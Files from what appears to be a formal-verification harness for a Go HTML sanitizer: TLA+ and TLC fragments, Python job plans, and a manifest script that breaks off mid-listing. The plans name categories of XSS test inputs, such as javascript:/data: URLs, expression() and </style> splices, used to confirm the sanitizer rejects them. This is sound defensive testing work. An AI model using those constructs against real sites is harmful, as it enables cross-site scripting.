       IN  Sweep(A, n, nf, i + 1, e.reach, e.calls)

RC(A, n, nf) == LET s == Sweep(A, n, nf, 0, {0}, 0)
                IN  [ok |-> n > 0 /\ n \in s.reach, calls |-> s.calls]

\* ---- what it must compute: is there a segmentation of 1..n into accepted consecutive groups?
RECURSIVE Segmentable(_, _, _, _)
Segmentable(A, n, nf, from) ==        \* tokens from..n
  IF from > n THEN TRUE
  ELSE \E k \in from..n : (\E f \in 1..nf : A[<<from, k, f>>]) /\ Segmentable(A, n, nf, k + 1)

Correct(A, n, nf)    == RC(A, n, nf).ok = (n > 0 /\ Segmentable(A, n, nf, 1))
\* every (start, end) pair is tried at most once with at most nf handlers
Polynomial(A, n, nf) == RC(A, n, nf).calls <= nf * ((n * (n + 1)) \div 2)
=============================================================================
