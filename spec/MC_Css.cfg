SPECIFICATION Spec
CONSTANT MaxAtoms = 1
CONSTANT Emit = TRUE
CONSTANT PropLo = 1
CONSTANT PropHi = 400
INVARIANT EmitCase
INVARIANT InvHostileRejected
CHECK_DEADLOCK FALSE
