"""Builds and runs the race-detector variant of the harness."""
import os, subprocess, shutil

VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
ENV = dict(os.environ, GOFLAGS="-mod=mod", GOPROXY="off", GOSUMDB="off", GOTOOLCHAIN="local", CGO_ENABLED="1",
           GORACE="halt_on_error=1 exitcode=66")


def build_race():
    out = os.path.join(VERIF, ".build", "vh-race")
    shutil.copy(os.path.join(os.environ.get("VERIF_REPO", "/repo"), "go.sum"), os.path.join(VERIF, "harness", "go.sum"))
    p = subprocess.run(["go", "build", "-race", "-tags", "verif", "-o", out, "./cmd/vh"], cwd=os.path.join(VERIF, "harness"), env=ENV,
                       stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    if p.returncode != 0:
        raise RuntimeError("race build failed: " + p.stdout[-2000:])
    return out
