"""Per-property job plans for vcheck."""

ASSUME_COMMON = [
    "TLC 1.8.0; x/net/html as tokenizer of the input and as the reader of the output (Tokenizer + ParseFragment in 11 flow contexts)",
    "Go regexp / net/url / douceur compute the fact tables (what a leaf predicate answers on a concrete string)",
    "a violation is reported only when the property's oracle fails on the real output; spec-vs-code divergences are reported separately",
]

LOOP_RULE = ("TLC enumerates (policy recipe, token sequence) of family fam_loop*: hist = every tokenizer-realisable history up to MaxLen, "
             "cover = one witness history per transition of the history-free quotient graph; each case is serialised in `variants` "
             "syntactic variants and run through the real Sanitize with hooks on; loop state and writes are compared with the "
             "prediction after every token and the property oracle is evaluated on the real output. Recorded random sessions "
             "(random builder-API policies x generated documents) are validated line by line by Trace_Session.tla. "
             "non-trivial = distinct (recipe, input) whose output differs from the input")


def loop_plan(prop):
    def run(ctx, tier):
        props = [prop]
        if tier == "quick":
            ctx.mc_replay("hist2", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_loop.json", props, variants=2, consts={"MaxLen": 2})
            ctx.mc_replay("cover", "MC_Loop.tla", "MC_Loop_cover.cfg", "fam_loopq.json", props, variants=2, workers=8)
            ctx.trace("sessions", props, sessions=40, calls=25)
        else:
            ctx.mc_replay("hist3", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_loop.json", props, variants=3, consts={"MaxLen": 3}, timeout=3000)
            ctx.mc_replay("cover", "MC_Loop.tla", "MC_Loop_cover.cfg", "fam_loop.json", props, variants=3, timeout=3000)
            ctx.trace("sessions", props, sessions=400, calls=40, timeout=3000)
        return dict(rule=LOOP_RULE, exhaustive=False, assumptions=ASSUME_COMMON)
    return run


PLANS = {p: loop_plan(p) for p in ("C01", "C05", "C06", "C08", "C09")}
