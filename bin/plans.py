"""Per-property job plans for vcheck."""

ASSUME_COMMON = [
    "TLC 1.8.0; x/net/html as tokenizer of the input and as the reader of the output (Tokenizer + ParseFragment in 11 flow contexts)",
    "Go regexp / net/url / douceur compute the fact tables (what a leaf predicate answers on a concrete string)",
    "a violation is reported only when the property's oracle fails on the real output; spec-vs-code divergences are reported separately",
]

LOOP_RULE = ("TLC enumerates (policy recipe, token sequence) of family fam_loop*: hist = every tokenizer-realisable history up to MaxLen, "
             "cover = one witness history per transition of the history-free quotient graph, nest*/nestw*/nestx* = reduced alphabets to greater depth "
             "(nestw, nestx: only prefixes of well-nested documents that still close within MaxLen, every complete document emitted); each case is serialised in `variants` "
             "syntactic variants and run through the real Sanitize with hooks on; loop state and writes are compared with the "
             "prediction after every token and the property oracle is evaluated on the real output. Recorded random sessions "
             "(random builder-API policies x generated documents; every other session extends its policy half-way) are validated line by line "
             "by Trace_Session.tla; extendsweep: every recipe split at every point, the first part built and used on all one- and two-element "
             "documents of the family, the rest applied, the documents sanitised again and judged. "
             "non-trivial = distinct (recipe, input) whose output differs from the input")


def extend_sweeps(ctx, prop):
    """build - use - extend - use on the loop families (harness-driven; the oracle judges)"""
    import os
    for fam in ("fam_nesty.json", "fam_nestx.json", "fam_loopq.json"):
        ctx.vh("extend-" + fam[4:-5], ["extendsweep", "-fam", os.path.join(ctx.dir, fam), "-props", prop], timeout=1200)


def loop_plan(prop):
    def run(ctx, tier):
        props = [prop]
        if tier == "quick":
            ctx.mc_replay("hist2", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_loop.json", props, variants=2, consts={"MaxLen": 2})
            ctx.mc_replay("cover", "MC_Loop.tla", "MC_Loop_cover.cfg", "fam_loopq.json", props, variants=2, workers=8)
            if prop in ("C08", "C09"):
                ctx.mc_replay("nest5", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_nest.json", props, variants=1, consts={"MaxLen": 5})
                ctx.mc_replay("nestw7", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_nestw.json", props, variants=1, consts={"MaxLen": 7})
                ctx.mc_replay("nestf8", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_nestf.json", props, variants=1, consts={"MaxLen": 8})
            ctx.mc_replay("nestx6", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_nestx.json", props, variants=1, consts={"MaxLen": 6})
            ctx.mc_replay("nesty6", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_nesty.json", props, variants=1, consts={"MaxLen": 6})
            ctx.mc_replay("foreign6", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_foreign.json", props, variants=1, consts={"MaxLen": 6})
            extend_sweeps(ctx, prop)
            ctx.trace("sessions", props, sessions=40, calls=25, check_attrs=True, kinds="0,1,2,3,4,5,8",
                      extra=["-nounsafe=false"] if prop in ("C08", "C09") else None)
            if prop in ("C08", "C09"):
                ctx.trace("deep", props, sessions=2, calls=3, check_attrs=False, kinds="10")   # chains 130-330 elements deep; whole-history invariants off (quadratic), the oracle judges
        else:
            ctx.mc_replay("hist3", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_loop.json", props, variants=3, consts={"MaxLen": 3}, timeout=3000)
            ctx.mc_replay("cover", "MC_Loop.tla", "MC_Loop_cover.cfg", "fam_loop.json", props, variants=3, timeout=3000)
            if prop in ("C08", "C09"):
                ctx.mc_replay("nest7", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_nest.json", props, variants=1, consts={"MaxLen": 7}, timeout=3000)
                ctx.mc_replay("nestw8", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_nestw.json", props, variants=1, consts={"MaxLen": 8}, timeout=3000)
                ctx.mc_replay("nestf9", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_nestf.json", props, variants=1, consts={"MaxLen": 9}, timeout=3000)
            ctx.mc_replay("nestx7", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_nestx.json", props, variants=1, consts={"MaxLen": 7}, timeout=3000)
            ctx.mc_replay("nesty8", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_nesty.json", props, variants=1, consts={"MaxLen": 8}, timeout=3000)
            ctx.mc_replay("foreign8", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_foreign.json", props, variants=1, consts={"MaxLen": 8}, timeout=3000)
            extend_sweeps(ctx, prop)
            ctx.trace("sessions", props, sessions=400, calls=40, timeout=3000, check_attrs=True, kinds="0,1,2,3,4,5,8",
                      extra=["-nounsafe=false"] if prop in ("C08", "C09") else None)
            if prop in ("C08", "C09"):
                ctx.trace("deep", props, sessions=20, calls=4, check_attrs=False, kinds="10", timeout=3000)
            if prop in ("C01", "C05"):
                ctx.apalache_inductive()
                ctx.refinement()
        return dict(rule=LOOP_RULE, exhaustive=False, assumptions=ASSUME_COMMON)
    return run


PLANS = {p: loop_plan(p) for p in ("C01", "C05", "C06", "C08", "C09")}

ATTR_RULE = ("TLC enumerates (policy recipe, element, attribute list up to MaxAttrs in every order and multiplicity) of the families "
             "fam_%s; the invariant is evaluated on SanitizeAttrs of every state; every state is emitted as a case, serialised as one "
             "tag in `variants` syntactic variants (quoting, entities, case) and run through the real Sanitize; the attributes the real "
             "sanitizeAttrs returns are compared with the prediction and the property oracle is evaluated on the real output. Recorded "
             "random sessions are validated by Trace_Session.tla with CheckAttrs (SanitizeAttrs(before) = logged after at every tag). "
             "non-trivial = distinct (recipe, tag) whose attributes are changed by the pipeline")


def attr_plan(prop, fams):
    def run(ctx, tier):
        props = [prop]
        for fam, q, t in fams:
            ctx.mc_replay(fam, "MC_Attrs.tla", "MC_Attrs.cfg", "fam_%s.json" % fam, props, variants=2 if tier == "quick" else 4,
                          consts={"MaxAttrs": q if tier == "quick" else t}, replaycmd="replayattrs", timeout=3000)
        import os
        for fam, _, _ in fams:   # build - use - extend - use over the attribute alphabets (harness-driven; the oracle judges)
            ctx.vh("extend-" + fam, ["extendsweep", "-fam", os.path.join(ctx.dir, "fam_%s.json" % fam), "-props", prop], timeout=1800)
        if tier == "quick":
            ctx.trace("sessions", props, sessions=60, calls=25, kinds="0,1,3,4,6,6,6", check_attrs=True)
        else:
            ctx.trace("sessions", props, sessions=600, calls=40, kinds="0,1,3,4,5,6,6,6", check_attrs=True, timeout=3000)
        return dict(rule=ATTR_RULE % "+".join(f[0] for f in fams), exhaustive=False, assumptions=ASSUME_COMMON + [
            "oracle facts (how a browser reads a URL / splits a style attribute) come from harness code written from the WHATWG URL and CSS Syntax rules, independent of net/url and douceur"])
    return run


PLANS["C02"] = attr_plan("C02", [("allow", 2, 3), ("forced", 2, 3), ("link", 2, 3)])
PLANS["C03"] = attr_plan("C03", [("url", 1, 2), ("urldup", 2, 3)])
PLANS["C10"] = attr_plan("C10", [("style", 2, 3)])
PLANS["C11"] = attr_plan("C11", [("link", 3, 4)])
PLANS["C12"] = attr_plan("C12", [("forced", 3, 4), ("url", 1, 2)])


def conf_plan(prop, fams, kinds):
    def run(ctx, tier):
        props = [prop]
        q = tier == "quick"
        ctx.mc_replay("conf-hist", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_conf.json", props, variants=1 if prop == "C07" else 2,
                      consts={"MaxLen": 3 if q else 4}, timeout=3000)
        for fam, mq, mt in fams:
            ctx.mc_replay(fam, "MC_Attrs.tla", "MC_Attrs.cfg", "fam_%s.json" % fam, props, variants=1 if prop == "C07" else 2,
                          consts={"MaxAttrs": mq if q else mt}, replaycmd="replayattrs", timeout=3000)
        if prop == "C20":
            ctx.vh("twicebig", ["twicebig"], timeout=1200)   # large and escape-expanding inputs under the shipped policies
            # the property names UGCPolicy and StrictPolicy explicitly: the shipped-policy family (vocabulary and hostile tokens)
            ctx.mc_replay("ugc-hist", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_ugc.json", props, variants=1,
                          consts={"MaxLen": 2 if q else 3}, timeout=3000)
        import os
        for fam in (["fam_conf.json", "fam_allow.json"] if prop == "C07" else ["fam_conf.json"]):
            ctx.vh("extend-" + fam[4:-5], ["extendsweep", "-fam", os.path.join(ctx.dir, fam), "-props", prop], timeout=1200)
        ctx.trace("sessions", props, sessions=80 if q else 800, calls=25 if q else 40, kinds=kinds, check_attrs=True, timeout=3000)
        return dict(rule=("TLC checks I07/I20 (BM_Props) on every history of fam_conf up to MaxLen and I07attrs/AnyOf/I20attrs on every "
                          "attribute list of the attribute families; every case is replayed (canonical serialisation for C07) and the "
                          "oracle (byte equality modulo forced attributes / Sanitize twice) evaluated on the real code; random sessions with "
                          "documents generated from the policy's own vocabulary are trace-validated. non-trivial = output differs from input"),
                    exhaustive=False, assumptions=ASSUME_COMMON)
    return run


PLANS["C07"] = conf_plan("C07", [("allow", 2, 3), ("url", 1, 2), ("link", 2, 3), ("style", 1, 2)], "7,7,7,7,0,6")
PLANS["C20"] = conf_plan("C20", [("link", 2, 3), ("allow", 2, 3), ("style", 1, 2), ("forced", 2, 3)], "0,1,3,4,6,7")


def c04_plan(ctx, tier):
    props = ["C04"]
    q = tier == "quick"
    ctx.mc_replay("ugc-hist", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_ugc.json", props, variants=2 if q else 4,
                  consts={"MaxLen": 2 if q else 3}, timeout=3000)
    ctx.mc_replay("ugc-cover", "MC_Loop.tla", "MC_Loop_cover.cfg", "fam_ugc.json", props, variants=2, workers=8, timeout=3000)
    ctx.trace("shipped", props, sessions=20 if q else 100, calls=150 if q else 600, kinds="8,8,8,4,4,5,3,7,7,0",
              extra=["-recipes", "ugc,ugc,strict"], check_attrs=True, timeout=3000)
    return dict(rule=("TLC runs the loop machine with policy = the documented UGC vocabulary constant (ugc_vocabulary.json) and StrictPolicy over "
                      "vocabulary and hostile tokens (I01, I02bare, I05, I07 as the converse, I20); every case is replayed into the real "
                      "UGCPolicy()/StrictPolicy(); recorded sessions feed XSS cheat-sheet vectors, fragment soup, raw bytes and vocabulary "
                      "documents; each build event binds the real UGCPolicy() snapshot to the constant; verdict = DOM of the real output in 11 "
                      "container contexts judged against the documented vocabulary. non-trivial = output differs from input"),
                exhaustive=False, assumptions=ASSUME_COMMON + ["ugc_vocabulary.json is the documented vocabulary, written down once and reviewed against README/doc comments (DESIGN section 11)"])


PLANS["C04"] = c04_plan


def c17_plan(ctx, tier):
    q = tier == "quick"
    # measured: the full 43-call alphabet at three calls is > 1.5 M states of 7 KB each; three calls run over a reduced alphabet
    ctx.mc_replay("policy", "MC_Policy.tla", "MC_Policy.cfg", "fam_policy.json", ["C17"], replaycmd="replaypolicy",
                  consts={"MaxLen": 2, "AlgDepth": 1 if q else 2}, timeout=3400)
    if not q:
        ctx.mc_replay("policy3", "MC_Policy.tla", "MC_Policy.cfg", "fam_policy3.json", ["C17"], replaycmd="replaypolicy",
                      consts={"MaxLen": 3, "AlgDepth": 1}, timeout=3400)
    ctx.trace("policyfuzz", ["C17"], cmd=["policyfuzz", "-n", "150" if q else "3000"], timeout=3000)
    return dict(rule=("TLC explores every history of <= 2 builder calls (43-call alphabet incl. case variants, toggles, helpers; thorough: also <= 3 calls over an 18-call alphabet) on two policy "
                      "instances from 4 constructor pairs and checks Commute, Idempotent, CaseBlind, SwitchLastWrite, RulesAccumulate, Independent; "
                      "each history is replayed on the real API: snapshot of each instance = predicted policy, the untouched instance's snapshot "
                      "never changes, an instance built next to another behaves like the same calls made alone, and all histories reaching the "
                      "same abstract policy behave identically on 14 probe documents; two direct oracles on the real API: accumulation (for every ordered pair of "
                      "rule-adding calls c1, c2 of the family and NewPolicy/UGCPolicy, whatever ctor+c1 lets through ctor+c1+c2 lets through as well) and "
                      "used-while-built (the same calls with the policy sanitising the probe documents between them behave like the calls made "
                      "without uses). policyfuzz: random recipes vs permuted / upper-cased / "
                      "repeated / interleaved variants with the same rule set; interleaved constructions are trace-validated (build events with "
                      "snapshots of both instances). non-trivial = distinct abstract policies reached"),
                exhaustive=False, assumptions=ASSUME_COMMON + ["behavioural equality is judged on 14 probe documents over the union vocabulary"])


PLANS["C17"] = c17_plan


IO_RULE = ("TLC explores BM_IO for every (recipe, document) of fam_io x every entry point x both writer kinds x every index of the write "
           "sequence as failure point (transient and permanent) x every token offset as reader failure point and checks EntryAgree, "
           "PrefixOfFaultFree, FailIsLast, AfterFailNoWrite, FailReported; every finished run is replayed with a scripted io.Reader / io.Writer "
           "around the real entry point (writes, error result, tokens consumed compared); per (policy, document) the harness additionally "
           "replays every single cut position and every pair of cut positions (short inputs), one-byte reads, zero-length reads, data+EOF, "
           "every write index x mode x writer kind (with and without WriteString, with a Flush method; the failing write accepting nothing or half "
           "of its bytes; the error a private value, io.EOF or io.ErrUnexpectedEOF) and every byte offset as reader failure (five different errors); iofuzz does the same for random policies and "
           "documents and its faulty runs are trace-validated (werr/rerr). non-trivial = distinct (policy, document, environment)")


def c15_plan(ctx, tier):
    q = tier == "quick"
    ctx.mc_replay("io", "MC_IO.tla", "MC_IO.cfg", "fam_io.json", ["C15"], replaycmd="replayio", timeout=3000)
    ctx.trace("iofuzz", ["C15"], cmd=["iofuzz", "-props", "C15", "-sessions", "30" if q else "400", "-calls", "10" if q else "25"], check_attrs=True, timeout=3000)
    import os
    ctx.vh("cli", ["clicheck", "-repo", os.environ.get("VERIF_REPO", "/repo"), "-n", "40" if q else "600"], timeout=3000)
    return dict(rule=IO_RULE + "; clicheck builds cmd/sanitise_ugc and cmd/sanitise_html_email from /repo and compares stdout with the library "
                "result of the harness' frozen copy of their documented policy (XSS vectors, generated documents, a >1 MiB document, and valid / near-miss "
                "values for each of the tools' own attribute patterns)", exhaustive=False, assumptions=ASSUME_COMMON)


def c16_plan(ctx, tier):
    q = tier == "quick"
    ctx.mc_replay("io", "MC_IO.tla", "MC_IO.cfg", "fam_io.json", ["C16"], replaycmd="replayio", timeout=3000)
    ctx.trace("iofuzz", ["C16"], cmd=["iofuzz", "-props", "C16", "-sessions", "30" if q else "400", "-calls", "10" if q else "25"], check_attrs=True, timeout=3000)
    return dict(rule=IO_RULE, exhaustive=False, assumptions=ASSUME_COMMON)


PLANS["C15"] = c15_plan
PLANS["C16"] = c16_plan


def c13_plan(ctx, tier):
    import vcheck_race
    q = tier == "quick"
    # measured: two calls over the family are 260 k states; three calls are > 10 M even over three recipes and three documents of
    # three tokens, so both tiers explore two calls exhaustively and the thorough tier puts its extra effort into the stress run
    ctx.mc_replay("conc", "MC_Conc.tla", "MC_Conc.cfg", "fam_conc.json", ["C13"], replaycmd="replayconc",
                  consts={"K": 2}, workers=8, timeout=3400)
    ctx.tlc_expect_violation("zero-value-control", "MC_Conc.tla", "MC_Conc.cfg", "fam_conc_zero.json", "NoPolicyWrite")
    race = vcheck_race.build_race()
    out = ctx.vh("race-stress", ["concstress", "-policies", "8" if q else "60", "-inputs", "30" if q else "60", "-repeat", "6" if q else "30"],
                 binary=race, timeout=3400, race=True)
    return dict(rule=("TLC explores every interleaving (token granularity) of 2 calls on one shared policy over fam_conc (UGC+comments, overlapping "
                      "element patterns and style rules, Strict) and checks SharedIsReadOnly, Deterministic, NoCarryOver; every complete "
                      "interleaving is replayed on the real code with the token hook as scheduler gate: outputs equal the sequential ones, "
                      "policy snapshot identical before and after, later calls unaffected; negative control: with a zero-value Policy{} "
                      "(precondition dropped) TLC finds the lazy-initialisation write; race-stress: the harness built with -race, 16 goroutines "
                      "x repeated random inputs per policy, ungated, all three string/bytes/reader entry points, every result compared with the "
                      "sequential one (Go's map order varies between repetitions); returned byte slices are held while other calls run, and a "
                      "buffer returned by SanitizeReader (also on the error path) is written to by its caller and must not come back from the "
                      "next call; every schedule is run through SanitizeReader and through SanitizeReaderToWriter with a destination that has no WriteString. non-trivial = distinct (policy, inputs) combinations"),
                exhaustive=False,
                assumptions=ASSUME_COMMON + ["data-race freedom itself is observed by the Go race detector on the ungated stress run (a race report makes the job fail as a violation); the specification supplies schedules, the read-only obligation and the determinism oracle"])


PLANS["C13"] = c13_plan


def c14_plan(ctx, tier):
    q = tier == "quick"
    ctx.mc_replay("cost", "MC_Cost.tla", "MC_Cost.cfg", "fam_loopq.json", ["C14"], replaycmd="replaycost", workers=8,
                  consts={"N": 3 if q else 4, "NF": 2, "FamN": 8 if q else 12, "FamNF": 3}, timeout=3400)
    ctx.vh("costcheck", ["costcheck"] + ([] if q else ["-deep"]), timeout=3400)
    # "never panics" on the shapes the other checks explore: nested same-name elements, link options with unparsable hrefs
    ctx.mc_replay("nestw", "MC_Loop.tla", "MC_Loop_hist.cfg", "fam_nestw.json", ["C14"], variants=1, consts={"MaxLen": 6 if q else 7}, timeout=3000)
    ctx.mc_replay("link", "MC_Attrs.tla", "MC_Attrs.cfg", "fam_link.json", ["C14"], variants=1, consts={"MaxAttrs": 1 if q else 2},
                  replaycmd="replayattrs", timeout=3000)
    ctx.trace("panic-freedom", ["C14"], sessions=60 if q else 600, calls=40 if q else 80, kinds="3,4,4,5,5,8,8,6,0", check_attrs=True,
              extra=["-nounsafe=false"], timeout=3400)
    return dict(rule=("TLC enumerates every verdict matrix (which handler accepts which block of tokens) up to N tokens x NF handlers and six "
                      "adversarial families up to FamN tokens and checks that the transcribed recursiveCheck is Correct (= exists a "
                      "segmentation) and Polynomial (handler calls <= nf*n(n+1)/2); every matrix is replayed through the real "
                      "css.recursiveCheck with synthetic counting handlers (verdict and call count compared; abort budget 4*nf*n^2+16); "
                      "costcheck: for each of the ~210 default handlers every atom the handler accepts repeatedly x n in {8,16,24,...} "
                      "(+ rejected tail) through Policy.Sanitize with a budget on recursiveCheck invocations (2000+50n^3), and 12 "
                      "growth generators (nesting, attribute lists, escapes, entities, elements matched by two overlapping patterns, ...) with doubling sizes, "
                      "each call under a watchdog on time and heap; every default handler on every 1-, 2- and selected 3-atom value (no panic); every URL "
                      "of the catalogue in every URL position and every style value of the catalogue under a stall watchdog; 1.5 MiB single tokens; "
                      "panic-freedom: every call of the recorded byte-level sessions (soup, raw bytes, XSS vectors, AllowUnsafe allowed) "
                      "must return (a recovered panic is a violation) and is trace-validated. non-trivial = matrices needing > 1 handler call"),
                exhaustive=False,
                assumptions=ASSUME_COMMON + ["wall-clock promptness is judged by operation counts (handler calls, recursiveCheck invocations); time only with generous absolute limits"])


PLANS["C14"] = c14_plan


def c19_plan(ctx, tier):
    q = tier == "quick"
    ctx.mc_replay("matchers", "MC_Matchers.tla", "MC_Matchers.cfg", "fam_loopq.json", ["C19"], replaycmd="replaymatchers",
                  consts={"MaxLen": 4 if q else 5, "Subst": 1 if q else 2}, timeout=3400)
    return dict(rule=("BM_Matchers.tla states the documented form of each of the eleven exported patterns as a recogniser over character "
                      "sequences; TLC generates every string up to MaxLen over the matcher's own characters plus the HTML-significant and control "
                      "characters (exhaustive), every string of length <= 2 and every single substitution of the examples over all printable ASCII plus "
                      "control / non-ASCII stand-ins (wide), every prefix-of-a-keyword + suffix-of-a-keyword (splice), and every single (thorough: double) "
                      "character substitution of the documented examples, checks the "
                      "documented forms are closed over their documented alphabets and free of hostile characters, and emits each string with the "
                      "documented verdict; the real regexp is asked for every string: accepted => documented form; documented example => "
                      "accepted. non-trivial = strings the real matcher accepts"),
                exhaustive=True,
                assumptions=["TLC; Go regexp as the matcher under test; the documented forms are transcribed from the doc comments of helpers.go (DESIGN 4.7)",
                             "one-directional oracle: the property does not oblige a matcher to accept every string of the documented form"])


def c18_plan(ctx, tier):
    q = tier == "quick"
    ctx.mc_replay("css", "MC_Css.tla", "MC_Css.cfg", "fam_css.json", ["C18"], replaycmd="replaycss",
                  consts={"MaxAtoms": 1 if q else 2}, timeout=3400)
    return dict(rule=("MC_Css.tla enumerates, for each of the 213 properties with a default handler, every sequence of <= MaxAtoms atoms of "
                      "the property's vocabulary (css_vocabulary.json) and every splice of one of 15 hostile fragments (url() with javascript:/"
                      "data:/scheme-relative/httpx targets, expression(), javascript:/data: references, backslash escapes, angle brackets, "
                      "</style>, at-rules) in 7 modes (separate token at every position, glued before/after, inserted at every cut, replacing "
                      "every character, comma- and slash-joined); the verdict comes from the structure of the value; every value is given to "
                      "css.GetDefaultHandler(prop) (as is and lower-cased), to the handler of an unknown property, and a sample end to end through "
                      "Policy.Sanitize with AllowStyles(prop).Globally() and, per property, through the element and element-pattern scopes with the property named "
                      "between two others in one AllowStyles call (judged by its own default handler; an unknown property by none). non-trivial = spliced values judged"),
                exhaustive=True,
                assumptions=["TLC is used as the bounded-exhaustive enumerator of structured values; css_vocabulary.json feeds generation only (atoms the handler no longer accepts are dropped and counted; exit 2 if most are)",
                             "hostile set = the constructs the property lists"])


PLANS["C19"] = c19_plan
PLANS["C18"] = c18_plan
