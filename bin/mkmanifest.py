#!/usr/bin/env python3
"""Writes MANIFEST.json from the plans that exist (keeps it valid at all times)."""
import json, os, sys
VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(VERIF, "bin"))
import plans

TEXT = {
 "C01": ("BM_Sanitize.tla (token loop) + BM_Props: I01 checked by TLC on every history <= MaxLen and on every transition of the quotient graph; every case replayed into the real code; random sessions trace-validated; verdict = tokenizer + 11-context DOM oracle on the real output", "4.3, 6/C01"),
 "C05": ("I05 (element clause) and I05body (content clause) checked by TLC; cases with script/style in every token form replayed; verdict = no script/style token or DOM element, no body marker in real output", "4.3, 6/C05"),
 "C06": ("I06 (character data of output = character data of input, one space per removed tag) checked by TLC on all histories; verdict = text equality through the same tokenizer, position-exact spaces from the hook log, output tags are a subsequence of input tags", "4.3, 6/C06"),
 "C08": ("I08: for well-nested input the output equals the output of the input with skipped regions deleted; checked by TLC on all histories and the quotient graph; verdict = unique markers inside/outside skipped regions searched in the real output", "4.3, 6/C08"),
 "C02": ("BM_Attrs.tla (five-stage attribute pipeline) + BM_AttrProps: I02 (every emitted attribute justified by a rule accepting the pre-rewrite value, a data-* name, the style rules or a forced attribute; never bare unless allowed) checked by TLC on every attribute list of the families; cases replayed; every sanitizeAttrs call of recorded sessions validated (CheckAttrs); verdict = harness' own rule evaluation on what the real code emitted", "4.2, 6/C02"),
 "C03": ("I03 over the fifteen URL positions x URL catalogue x scheme/custom/relative/rewriter recipes, stated with the browser-style URL reader (UrlW facts), checked by TLC; verdict = independent WHATWG-style scheme extraction on the re-tokenised real output and its DOM", "4.2, 6/C03"),
 "C10": ("I10: every declaration a browser-style splitter finds in the emitted style attribute is allowlisted and its browser-decoded value accepted by a registered matcher; FilterStyle conformance; checked by TLC over the style families; verdict = independent CSS splitter + escape decoder on the real output", "4.2, 6/C10"),
 "C11": ("I11 over all 2^5 link-option combinations x a/area/link x every order and multiplicity of href/rel/target up to MaxAttrs, checked by TLC; verdict = token-wise, case-insensitive reading of rel/target on what the real code emitted", "4.2, 6/C11"),
 "C12": ("I12 (crossorigin forced to anonymous; sandbox tokens a duplicate-free subset of the policy's list, added empty when missing) checked by TLC; verdict = re-tokenised real output", "4.2, 6/C12"),
 "C07": ("I07: a conforming document (Conforming(p, d): well nested, every tag/attribute/value allowed as it stands, canonical URLs and styles) passes Run unchanged modulo forced attributes; additivity as AnyOf (a value accepted by any rule covering the attribute survives the allowlist stage) and Known (any route allows the element); checked by TLC on fam_conf histories and the attribute families; verdict = byte equality of the real output with the canonical input modulo forced attributes", "4.3, 6/C07"),
 "C20": ("I20: for policies in the stated class (and UGC when no del/ins cite survives) Run(p, Run(p, x)) = Run(p, x) with the output read back (adjacent text merged); I20attrs: SanitizeAttrs is idempotent on its own result (URL normalisation stable, rel tokens not repeated, sandbox/style filters stable); checked by TLC; verdict = Sanitize(Sanitize(x)) == Sanitize(x) on the real code for every replayed and recorded input", "4.3, 6/C20"),
 "C04": ("the loop machine instantiated with the documented UGC vocabulary constant and with StrictPolicy: I01/I02/I03/I05 give 'only vocabulary, no script/style, allowed schemes', I07 gives the converse; the real UGCPolicy() snapshot is bound to the constant at every build event; verdict = DOM built by an HTML5 parser from the real output inside 11 ordinary containers, judged against the documented vocabulary (elements, attribute names, http/https/mailto/relative URLs)", "4.1, 6/C04, 11"),
 "C17": ("BM_Policy.tla: every exported builder method as an action on a policy record; MC_Policy checks that rule calls commute, are idempotent and only add, that letter case is irrelevant, that each switch reflects its last setting and that acting on one instance leaves the other unchanged, from every reachable policy; verdict = real snapshots and probe-document outputs: same abstract rule set => identical behaviour, untouched instance unchanged", "4.1, 6/C17"),
 "C15": ("BM_IO.tla: a call with its environment (entry point, reader behaviour, writer kind); EntryAgree: whenever nothing fails the accepted output is Run(policy, tokens) for every entry point, chunking and writer kind; blank short cut returns the input; checked by TLC; verdict = byte equality of all real entry points under exhaustive cut positions, untouched input buffer, and the two bundled tools against the library result of their documented policy", "4.4, 6/C15"),
 "C16": ("BM_IO.tla: FailIsLast / AfterFailNoWrite (a failed write is the last write), FailReported (error returned, empty buffer), PrefixOfFaultFree, for every write index (transient and permanent) and reader failure offset; checked by TLC; verdict = scripted faulty reader/writer around the real entry points: returned error, number of writes after the failure, accepted bytes a prefix of the fault-free output", "4.4, 6/C16"),
 "C13": ("BM_Conc.tla: K calls on a shared policy interleaved at token granularity; SharedIsReadOnly ([][pol' = pol]), Deterministic (each finished call = Run(pol, doc)), NoCarryOver, checked by TLC over all interleavings; negative control with a zero-value policy; every interleaving replayed on the real code using the token hook as scheduler gate; verdict = outputs equal the sequential ones, snapshot unchanged, and no report from the Go race detector on the ungated 16-goroutine stress run", "4.5, 6/C13, 9"),
 "C14": ("BM_Cost.tla: css.recursiveCheck transcribed as a counted algorithm over an arbitrary verdict matrix; Correct and Polynomial checked by TLC for all matrices up to the bound and adversarial families; conformance of the real function (verdict and handler-call count) on every matrix; end-to-end operation-count budgets for every default handler and growth generators; panic-freedom on recorded byte-level sessions (every call must reach its return event)", "4.6, 6/C14, 9"),
 "C18": ("MC_Css.tla: structured CSS values (vocabulary atoms + one hostile fragment in one of seven splice modes) enumerated bounded-exhaustively for all 213 default handlers; the specification's verdict (reject / don't care) is computed from the structure; verdict of the check = what css.GetDefaultHandler(prop) really answers, plus the unknown-property handler and end-to-end samples", "4.7, 6/C18, 9"),
